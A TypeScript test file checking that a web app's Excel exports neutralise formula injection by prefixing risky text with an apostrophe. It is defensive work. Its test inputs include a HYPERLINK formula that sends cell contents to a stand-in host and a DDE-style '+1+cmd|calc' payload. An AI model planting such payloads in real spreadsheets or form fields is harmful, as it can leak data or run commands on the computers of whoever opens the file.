// Finding 6 of the outside probe: Excel exports kept text starting with = + - @ as it was (CSV prefixed
// it). Every spreadsheet export now writes such text with a leading apostrophe.
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, DATABASES, type TestApp } from '../../test/test-app.js';
import { activityBody } from '../../test/outreach-fixtures.js';

async function cellTexts(buffer: Buffer): Promise<string[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buffer as unknown as ArrayBuffer);
  const texts: string[] = [];
  wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((c) => texts.push(typeof c.value === 'string' ? c.value : c.text))));
  return texts;
}

const FORMULA = '=HYPERLINK("http://example.invalid/?q="&A1,"Mở")';

describe.each(DATABASES)('formulas in spreadsheet exports on %s', (kind) => {
  let t: TestApp;
  let officer: string;
  let tranPhu: string;
  beforeAll(async () => {
    t = await createTestApp(kind);
    officer = await t.signIn(await t.makeUser('commune_officer', { unitCode: '02176' }));
    tranPhu = await t.unitId('02176');
  });
  afterAll(async () => t.close());

  it('writes an activity topic that starts like a formula as text with a leading apostrophe in the activity export', async () => {
    const created = await t.inject({ method: 'POST', url: '/api/outreach/activities', cookie: officer, payload: activityBody(tranPhu, { topic: FORMULA }) });
    expect(created.statusCode, created.body).toBe(201);
    const exported = await t.inject({ method: 'GET', url: '/api/outreach/activities/export', cookie: officer });
    expect(exported.statusCode).toBe(200);
    const texts = await cellTexts(exported.rawPayload);
    expect(texts).toContain(`'${FORMULA}`);
    expect(texts).not.toContain(FORMULA);
  });

  it('writes a report narrative that starts with +, - or @ with a leading apostrophe in the report workbook', async () => {
    const created = await t.inject({ method: 'POST', url: '/api/reports', cookie: officer, payload: { unitId: tranPhu, period: '2026-H1' } });
    expect(created.statusCode, created.body).toBe(201);
    const id = created.json<{ id: string }>().id;
    const saved = await t.inject({ method: 'PUT', url: `/api/reports/${id}`, cookie: officer, payload: { version: 1, narrative: { situation: '+1+cmd|calc', results: '@SUM(A1:A9)' } } });
    expect(saved.statusCode, saved.body).toBe(200);
    const texts = await cellTexts((await t.inject({ method: 'GET', url: `/api/reports/${id}/download?format=xlsx`, cookie: officer })).rawPayload);
    expect(texts).toEqual(expect.arrayContaining(["'+1+cmd|calc", "'@SUM(A1:A9)"]));
    expect(texts.filter((x) => /^[=+@]/.test(x))).toEqual([]);
  });
});
